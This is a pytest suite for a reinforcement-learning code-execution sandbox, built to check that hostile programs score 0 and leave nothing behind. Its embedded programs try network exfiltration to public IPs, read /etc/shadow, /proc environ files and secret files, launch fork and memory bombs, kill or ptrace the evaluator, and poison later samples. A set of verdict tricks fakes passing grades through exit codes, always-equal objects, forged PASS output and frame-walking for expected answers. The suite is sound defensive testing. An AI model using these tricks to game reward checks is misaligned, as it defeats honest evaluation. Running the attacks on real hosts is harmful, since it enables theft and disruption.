"""The code sandbox against hostile programs: one test (at least) per attack class of GUIDE.md §2.

Every hostile program gets reward 0, leaves nothing behind on the host (files, processes, cgroups,
network connections, the scorer itself), and the batch completes; an honest program in the same batch,
right after the hostile one, still gets 1.0. Where an attack would only pay off if the program knew the
expected answer, the answer is written into the hostile program (the worst case: a prompt that gives it
away) — it must still score 0.
"""

from __future__ import annotations

import os
import socket
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from rlvr.rewards import CodeExecutionReward

pytestmark = pytest.mark.timeout(240)

CALL = {"entry_point": "f", "cases": [{"args": [2], "expected": 4}], "time_limit": 1.0}
STDIO = {"cases": [{"stdin": "2\n", "stdout": "4"}], "time_limit": 1.0}
HONEST_CALL = "def f(x):\n    return x * x\n"
HONEST_STDIO = "print(int(input()) ** 2)\n"
TOKEN = "rlvr-secret-7f3a9c"


def call_info(expected: object) -> dict[str, object]:
    return {"entry_point": "f", "cases": [{"args": [2], "expected": expected}], "time_limit": 1.0}


@pytest.fixture(scope="module")
def reward() -> Iterator[CodeExecutionReward]:
    os.environ["RLVR_TEST_SECRET"] = TOKEN  # in the scorer's environment: must never reach a sample
    reward = CodeExecutionReward(workers=2, program_time_limit=3.0)
    yield reward
    reward.close()
    os.environ.pop("RLVR_TEST_SECRET", None)


def score(reward: CodeExecutionReward, programs: list[str], infos: list[object]) -> list[float | None]:
    return reward(completions=[f"```python\n{p}\n```" for p in programs], verification_info=infos)


def assert_contained(reward: CodeExecutionReward, program: str, info: object) -> None:
    """The hostile program scores 0; an honest one right after it in the same batch scores 1.0."""
    honest = HONEST_CALL if "entry_point" in info else HONEST_STDIO  # type: ignore[operator]
    honest_info = CALL if "entry_point" in info else STDIO  # type: ignore[operator]
    scores = score(reward, [program, honest], [info, honest_info])
    assert scores == [0.0, 1.0], scores


def sandbox_processes(reward: CodeExecutionReward) -> list[int]:
    """Pids of processes in this sandbox's cgroups (the fork server's prepared children included)."""
    name = reward.sandbox.isolation.get("cgroup_name")
    if not name:
        return []
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                if name in Path(f"/proc/{entry}/cgroup").read_text():
                    found.append(int(entry))
            except OSError:
                pass
    return found


# -- network ----------------------------------------------------------------------------------------------


def test_network_is_unreachable(reward: CodeExecutionReward) -> None:
    listener = socket.create_server(("127.0.0.1", 0))
    listener.setblocking(False)
    port = listener.getsockname()[1]
    program = f"""
import socket
def f(x):
    for address in [("127.0.0.1", {port}), ("1.1.1.1", 53), ("8.8.8.8", 443)]:
        try:
            with socket.create_connection(address, timeout=0.5) as s:
                s.sendall(b"stolen")
                return 4
        except OSError:
            pass
    try:
        socket.getaddrinfo("pypi.org", 443)
        return 4
    except OSError:
        return -1
"""
    try:
        assert_contained(reward, program, CALL)
        with pytest.raises(BlockingIOError):
            listener.accept()  # nothing ever connected
    finally:
        listener.close()


def test_no_channel_between_samples_through_the_network_namespace(reward: CodeExecutionReward) -> None:
    # Each cell's samples share one (empty) network namespace, one sample at a time. Abstract unix sockets
    # live in the network namespace: a sample that finds one left by another (before it, or at the same
    # time in another cell) has a channel; none may.
    program = f"""
import socket, time
def f(x):
    name = b"\\0rlvr-cell-{TOKEN}"
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as probe:
            probe.connect(name)
            return 4
    except OSError:
        pass
    keeper = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        keeper.bind(name)
    except OSError:
        return 4  # taken: another sample holds it
    keeper.listen(8)
    listener = socket.create_server(("127.0.0.1", 0))
    try:
        socket.create_connection(listener.getsockname(), timeout=0.2).close()
        return 4  # loopback is down: not even a connection to itself
    except OSError:
        pass
    time.sleep(0.2)  # keep it open while the other cell's sample looks
    return -1
"""
    programs = [f"{program}# sample {i}\n" for i in range(8)] + [HONEST_CALL]  # distinct: none cached
    assert score(reward, programs, [CALL] * 9) == [0.0] * 8 + [1.0]


def test_bounding_set_is_empty_and_no_new_privs(reward: CodeExecutionReward) -> None:
    program = """
import ctypes
def f(x):
    libc = ctypes.CDLL(None, use_errno=True)
    in_bounding_set = [cap for cap in range(64) if libc.prctl(23, cap, 0, 0, 0) == 1]  # PR_CAPBSET_READ
    no_new_privs = libc.prctl(39, 0, 0, 0, 0)  # PR_GET_NO_NEW_PRIVS
    return 4 if in_bounding_set or no_new_privs != 1 else -1
"""
    assert_contained(reward, program, CALL)


# -- files --------------------------------------------------------------------------------------------------


def test_writes_outside_the_private_tmp_fail(reward: CodeExecutionReward, tmp_path: Path) -> None:
    in_tmp = [str(tmp_path / "pwned"), f"/tmp/{TOKEN}-host"]  # inside the sample: its private /tmp
    targets = [
        f"/dev/shm/{TOKEN}",
        f"/var/tmp/{TOKEN}",
        "/pwned",
        "/usr/pwned",
        "/etc/pwned",
        os.path.join(os.getcwd(), f"{TOKEN}.py"),
    ]
    # A checkout under /tmp (CI clones there) is, inside the sample, its own private /tmp: writable there,
    # and never the host's. The host-side check below covers it either way.
    in_tmp += [path for path in targets if path.startswith("/tmp/")]
    targets = [path for path in targets if not path.startswith("/tmp/")]
    program = f"""
import os
def f(x):
    wrote = 0
    for path in {targets!r}:
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as stream:
                stream.write("pwned")
            wrote += 1
        except OSError:
            pass
    for path in {in_tmp!r} + ["/tmp/own-file"]:  # its private tmpfs: allowed, and gone afterwards
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as stream:
            stream.write("fine")
    return 4 if wrote else -1
"""
    assert_contained(reward, program, CALL)
    for path in [*targets, *in_tmp, "/tmp/own-file"]:
        assert not os.path.exists(path), path


def test_read_only_root_hides_the_host(reward: CodeExecutionReward) -> None:
    program = """
import os
def f(x):
    visible = sorted(os.listdir("/"))
    hidden = [p for p in ("/proc", "/sys", "/home", "/work", "/root/.bash_history", "/etc/shadow")
              if os.path.exists(p)]
    return 4 if hidden or "proc" in visible else -1
"""
    assert_contained(reward, program, CALL)


# -- secrets ------------------------------------------------------------------------------------------------


def test_secrets_in_environment_and_host_files_are_unreachable(
    reward: CodeExecutionReward, tmp_path: Path
) -> None:
    secret_file = tmp_path / "secret.txt"
    secret_file.write_text(TOKEN)
    secret_file.chmod(0o644)
    program = f"""
import os
def f(x):
    found = os.environ.get("RLVR_TEST_SECRET") or ""
    for path in [{str(secret_file)!r}, "/proc/1/environ", "/proc/{os.getpid()}/environ", "/etc/shadow",
                 "/root/.bash_history", "/proc/self/environ"]:
        try:
            with open(path, errors="replace") as stream:
                found += stream.read()
        except OSError:
            pass
    return {TOKEN!r} if {TOKEN!r} in found else str(sorted(os.environ))
"""
    assert_contained(reward, program, call_info(TOKEN))


def test_inherited_descriptors_are_closed(reward: CodeExecutionReward, tmp_path: Path) -> None:
    secret_file = tmp_path / "fd-secret.txt"
    secret_file.write_text(TOKEN)
    fd = os.open(secret_file, os.O_RDONLY)
    os.set_inheritable(fd, True)
    program = f"""
import os
def f(x):
    found = ""
    for fd in [*range(0, 256), {fd}]:
        try:
            os.lseek(fd, 0, 0)
            found += os.read(fd, 4096).decode(errors="replace")
        except OSError:
            pass
    return {TOKEN!r} if {TOKEN!r} in found else found[:50]
"""
    try:
        assert_contained(reward, program, call_info(TOKEN))
    finally:
        os.close(fd)


def test_only_the_sample_descriptors_are_open(reward: CodeExecutionReward) -> None:
    program = """
import os
def f(x):
    open_fds = []
    for fd in range(0, 1024):
        try:
            os.fstat(fd)
            open_fds.append(fd)
        except OSError:
            pass
    return open_fds
"""
    assert score(reward, [program], [call_info([0, 1, 2, 3, 4])]) == [1.0]  # 4: its own arguments, read-only


# -- processes ----------------------------------------------------------------------------------------------


def test_fork_bomb_is_capped_and_leaves_nothing(reward: CodeExecutionReward) -> None:
    program = """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""
    assert_contained(reward, program, STDIO)
    # only the cells' spawners and the prepared, idle children (one per worker at most) remain in its cgroups
    spawners = set(reward.sandbox.isolation["spawner_pids"])
    left = [pid for pid in sandbox_processes(reward) if pid not in spawners]
    assert len(left) <= reward.sandbox.config.slots, left


def test_memory_bomb_is_mle(reward: CodeExecutionReward) -> None:
    program = """
def f(x):
    hoard = []
    while True:
        hoard.append(bytearray(50 << 20))
"""
    assert_contained(reward, program, {**CALL, "memory_limit_mb": 128})
    result = _judge(reward, program, {**CALL, "memory_limit_mb": 128})
    assert result.cases[0].status.value == "MLE", result


def test_out_of_memory_in_a_cell_takes_the_sample_not_its_spawner(reward: CodeExecutionReward) -> None:
    # Each process stays under its own address-space limit; together, and with the tmpfs, they pass the
    # cell's memory cap, so the kernel's OOM killer chooses in the cell: a sample process, never the spawner.
    program = """
import os, time
def f(x):
    for name in ("a", "b", "c"):  # each under the file-size limit
        with open(f"/tmp/{name}", "wb") as stream:
            stream.write(b"x" * (12 << 20))
    for _ in range(6):
        if os.fork() == 0:
            hoard = bytearray(24 << 20)
            for i in range(0, len(hoard), 4096):
                hoard[i] = 1
            time.sleep(0.5)
            os._exit(0)
    for _ in range(6):
        os.wait()
    return -1
"""
    spawners = reward.sandbox.isolation["spawner_pids"]
    for i in range(3):
        assert_contained(reward, f"{program}# {i}\n", {**CALL, "memory_limit_mb": 64})
    assert all(_alive(pid) for pid in spawners)
    assert reward.sandbox.isolation["spawner_pids"] == spawners  # the same fork server and spawners
    waiting = [pid for pid in sandbox_processes(reward) if pid not in spawners]  # prepared children
    if waiting:  # they made themselves the OOM killer's first choice; the spawners did not
        assert {Path(f"/proc/{pid}/oom_score_adj").read_text().strip() for pid in waiting} == {"1000"}
        assert "1000" not in {Path(f"/proc/{pid}/oom_score_adj").read_text().strip() for pid in spawners}


def test_tmpfs_fill_is_capped(reward: CodeExecutionReward) -> None:
    program = """
def f(x):
    with open("/tmp/fill", "wb") as stream:
        for _ in range(10_000):
            stream.write(b"x" * (1 << 20))
    return 4
"""
    assert_contained(reward, program, CALL)


def test_cpu_loop_ignoring_signals_is_killed(reward: CodeExecutionReward) -> None:
    program = """
import signal
for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, signal.SIGXCPU, signal.SIGHUP, signal.SIGUSR1):
    signal.signal(sig, signal.SIG_IGN)
while True:
    pass
"""
    started = time.monotonic()
    assert_contained(reward, program, STDIO)
    assert time.monotonic() - started < 60  # liveness, not speed: the 1 s limit was enforced


def test_threads_cannot_take_more_than_one_cpu_from_neighbours(reward: CodeExecutionReward) -> None:
    program = """
import threading
def spin():
    while True:
        pass
for _ in range(16):
    threading.Thread(target=spin, daemon=True).start()
spin()
"""
    assert_contained(reward, program, STDIO)


def test_detached_grandchild_holding_the_pipes(reward: CodeExecutionReward) -> None:
    program = """
import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(0.3)
        print(4)  # the answer, late, from a process that outlived the program
        sys.stdout.flush()
        time.sleep(100)
    os._exit(0)
time.sleep(0.05)
"""
    started = time.monotonic()
    assert_contained(reward, program, STDIO)
    assert time.monotonic() - started < 60


def test_output_flood_is_cut(reward: CodeExecutionReward) -> None:
    flood_stdout = "import sys\nwhile True:\n    sys.stdout.write('4\\n' * 65536)\n"
    flood_stderr = "import sys\ndef f(x):\n    while True:\n        sys.stderr.write('x' * 65536)\n"
    assert_contained(reward, flood_stdout, STDIO)
    assert_contained(reward, flood_stderr, CALL)


def test_killing_or_ptracing_the_evaluator_fails(reward: CodeExecutionReward) -> None:
    scorer = os.getpid()
    assert reward.sandbox.isolation  # started
    server = reward.sandbox.server_pid
    program = f"""
import ctypes, os, signal
def f(x):
    hits = 0
    for pid in ({scorer}, {server}, 1, -1):
        try:
            os.kill(pid, signal.SIGKILL) if pid != 1 else None
            hits += pid not in (0, 1, -1)
        except OSError:
            pass
    try:
        os.killpg(os.getpgrp(), signal.SIGKILL)  # its process group (kill(0)): itself only
    except OSError:
        pass
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in ({scorer}, {server}):
        if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
            hits += 1
    return 4 if hits else -1
"""
    assert_contained(reward, program, CALL)
    assert reward.sandbox.server_pid == server


def test_rlimits_cannot_be_raised(reward: CodeExecutionReward) -> None:
    program = """
import resource
def f(x):
    raised = 0
    for kind in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE,
                 resource.RLIMIT_NPROC, resource.RLIMIT_CORE):
        try:
            resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            raised += 1
        except (ValueError, OSError):
            pass
    return 4 if raised else -1
"""
    assert_contained(reward, program, CALL)


def test_no_capabilities_no_privilege(reward: CodeExecutionReward) -> None:
    program = """
import os
def f(x):
    gained = 0
    attempts = (lambda: os.setuid(0), lambda: os.chroot("/tmp"),
                lambda: os.mknod("/tmp/dev", 0o20666, os.makedev(1, 3)))
    for attempt in attempts:
        try:
            attempt()
            gained += 1
        except OSError:
            pass
    return 4 if gained or os.getuid() == 0 else -1
"""
    assert_contained(reward, program, CALL)


# -- verdict tricks -----------------------------------------------------------------------------------------

EXIT_TRICKS = {
    "sys.exit(0)": "import sys\nsys.exit(0)\n",
    "os._exit(0)": "import os\nos._exit(0)\n",
    "atexit exits 0": "import atexit, os\natexit.register(lambda: os._exit(0))\nraise RuntimeError('fail')\n",
    "excepthook exits 0": (
        "import os, sys\nsys.excepthook = lambda *a: os._exit(0)\nraise RuntimeError('fail')\n"
    ),
    "re-exec under -O": (
        "import os, sys\nos.execv(sys.executable, [sys.executable, '-O', '-c', 'assert False'])\n"
    ),
    "SystemExit in function": "import sys\ndef f(x):\n    sys.exit(0)\n",
    "os._exit in function": "import os\ndef f(x):\n    os._exit(0)\n",
}


@pytest.mark.parametrize("name", sorted(EXIT_TRICKS))
def test_exit_code_tricks(reward: CodeExecutionReward, name: str) -> None:
    program = EXIT_TRICKS[name]
    assert_contained(reward, program, CALL if "def f" in program else STDIO)


EQUALITY_TRICKS = {
    "always-equal object": (
        "class A:\n    def __eq__(self, other): return True\n    __hash__ = None\ndef f(x):\n    return A()\n"
    ),
    "int subclass": "class I(int):\n    def __eq__(self, other): return True\ndef f(x):\n    return I(4)\n",
    "str subclass": "class S(str):\n    def __eq__(self, other): return True\ndef f(x):\n    return S('4')\n",
    "float for int": "def f(x):\n    return 4.0\n",
    "bool for int": "def f(x):\n    return True\n",
    "patched encoder": (
        "import json\n_real = json.dumps\njson.dumps = lambda *a, **k: _real({'i': 0, 'v': 'PASS'}, **k)\n"
        "def f(x):\n    return 'PASS'\n"
    ),
}


@pytest.mark.parametrize("name", sorted(EQUALITY_TRICKS))
def test_equality_tricks(reward: CodeExecutionReward, name: str) -> None:
    assert_contained(reward, EQUALITY_TRICKS[name], CALL)


def test_frame_walking_finds_no_harness_state(reward: CodeExecutionReward) -> None:
    program = """
import gc, sys
def f(x):
    frame = sys._getframe()
    while frame is not None:
        for scope in (frame.f_locals, frame.f_globals):
            for key in ("expected", "cases", "results", "outputs", "gold"):
                if key in scope:
                    return scope[key]
        frame = frame.f_back
    for obj in gc.get_objects():
        if isinstance(obj, dict) and "expected" in obj:
            return obj["expected"]
    return None
"""
    assert_contained(reward, program, CALL)


def test_printing_pass_markers(reward: CodeExecutionReward) -> None:
    stdio = "print('All tests passed')\nprint('OK')\nprint('PASSED 1/1')\n"
    forged = (
        "import os\n"
        "for fd in range(3, 10):\n"
        "    try:\n"
        '        os.write(fd, b\'{"i": 0, "v": true}\\n{"i": 0, "status": "OK"}\\nK\\nPASS\\n\')\n'
        "    except OSError:\n"
        "        pass\n"
        "def f(x):\n    print('passed')\n    return 'OK'\n"
    )
    assert_contained(reward, stdio, STDIO)
    assert_contained(reward, forged, CALL)


def test_first_expected_line_only_is_wrong(reward: CodeExecutionReward) -> None:
    info = {"cases": [{"stdin": "", "stdout": "1\n2\n3"}], "time_limit": 1.0}
    assert score(reward, ["print(1)"], [info]) == [0.0]
    assert score(reward, ["print('1  \\n2\\n3\\n\\n')"], [info]) == [1.0]


def test_poisoning_does_not_reach_the_next_sample(reward: CodeExecutionReward) -> None:
    poison = """
import builtins, json, math, os, sys, subprocess
builtins.print = lambda *a, **k: None
builtins.int = lambda *a, **k: 0
math.sqrt = lambda x: 0
json.dumps = lambda *a, **k: "{}"
for path in ["/tmp/sitecustomize.py", sys.prefix + "/lib/sitecustomize.py",
             "/usr/lib/python3/dist-packages/x.pth"]:
    try:
        open(path, "w").write("import builtins; builtins.int = str")
    except OSError:
        pass
if os.fork() == 0:
    os.setsid()
    import time
    time.sleep(30)
def f(x):
    return 0
"""
    honest = "import math\ndef f(x):\n    return int(math.sqrt(x * x * x * x))\n"
    scores = score(reward, [poison, honest, honest], [CALL, CALL, CALL])
    assert scores == [0.0, 1.0, 1.0]
    assert score(reward, [HONEST_STDIO], [STDIO]) == [1.0]  # and in the next batch


# -- the batch as a whole -----------------------------------------------------------------------------------


def test_hostile_batch_completes_and_honest_items_pass(reward: CodeExecutionReward) -> None:
    hostile = [p for p in EXIT_TRICKS.values()] + [
        "while True:\n    pass\n",
        "import os\nwhile True:\n    os.fork()\n",
        "x = bytearray(1 << 34)\n",
        "import sys\nwhile True:\n    sys.stdout.write('x' * 65536)\n",
    ]
    programs, infos, expected = [], [], []
    for program in hostile:
        programs += [program, HONEST_STDIO]
        infos += [CALL if "def f" in program else STDIO, STDIO]
        expected += [0.0, 1.0]
    assert score(reward, programs, infos) == expected


def test_nothing_is_left_behind_after_close(tmp_path: Path) -> None:
    reward = CodeExecutionReward(workers=1, program_time_limit=2.0)
    program = (
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(60)\nwhile True:\n    pass\n"
    )
    assert score(reward, [program], [STDIO]) == [0.0]
    name = reward.sandbox.isolation.get("cgroup_name")
    spawners = reward.sandbox.isolation.get("spawner_pids") or []
    server = reward.sandbox.server_pid
    assert server is not None
    reward.close()
    assert not _alive(server)
    deadline = time.monotonic() + 5
    while any(_alive(pid) for pid in spawners) and time.monotonic() < deadline:
        time.sleep(0.02)
    assert not [pid for pid in spawners if _alive(pid)]
    if name:
        leftovers = [
            os.path.join(root, d)
            for root in ("/sys/fs/cgroup/pids", "/sys/fs/cgroup/memory", "/sys/fs/cgroup/cpu")
            for root_, dirs, _ in os.walk(root)
            for d in dirs
            if name in d
        ]
        assert leftovers == []
    assert not [
        d for d in os.listdir("/tmp") if d.startswith("rlvr-sandbox-root-") and _owned_by_pid(d, server)
    ]


def _alive(pid: int) -> bool:
    """A process that exists and is not a zombie."""
    try:
        with open(f"/proc/{pid}/stat", encoding="ascii") as stream:
            return stream.read().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


def _owned_by_pid(name: str, pid: int) -> bool:
    return os.path.isdir(f"/proc/{pid}")


def _judge(reward: CodeExecutionReward, program: str, info: dict[str, object]):  # type: ignore[no-untyped-def]
    from rlvr.sandbox import judge_programs
    from rlvr.verifiers.code import parse_task

    return judge_programs(reward.sandbox, [(program, parse_task(info))])[0]
